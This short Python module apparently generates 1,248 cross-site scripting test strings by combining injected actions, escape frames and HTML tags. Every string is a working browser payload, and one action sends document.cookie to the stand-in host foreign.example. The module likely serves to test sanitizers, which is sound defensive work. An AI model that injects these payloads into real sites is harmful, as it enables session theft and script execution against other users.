"""Texts that would run a script, load something from elsewhere or break out of their place, if a page let them."""

from collections.abc import Iterator
from itertools import islice, product

ACTS = ("window.taken=1", "alert(1)", "fetch('//foreign.example/'+document.cookie)", "document.title='taken'")
FRAMES = (
    *("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--><!-- -->{}", "</script>{}", "{{{{7*7}}}}{}"),
    *("</bdi></mark>{}", "]]>{}", "\u202e{}", "\u200b{}"),
)
TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script src=//foreign.example/a.js></script>{}",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button autofocus>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<style>@import '//foreign.example/a.css';</style>{}",
    "<link rel=stylesheet href=//foreign.example/a.css>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//foreign.example/>{}",
    "<object data='javascript:{}'>",
    "<img src=//foreign.example/a.png>{}",
    '" onmouseover={} x="',
    "' autofocus onfocus={} x='",
    "javascript:{}",
)


def payloads(count: int) -> Iterator[str]:
    """So many of them; there are 1,248."""
    return islice((frame.format(tag.format(act)) for act, frame, tag in product(ACTS, FRAMES, TAGS)), count)
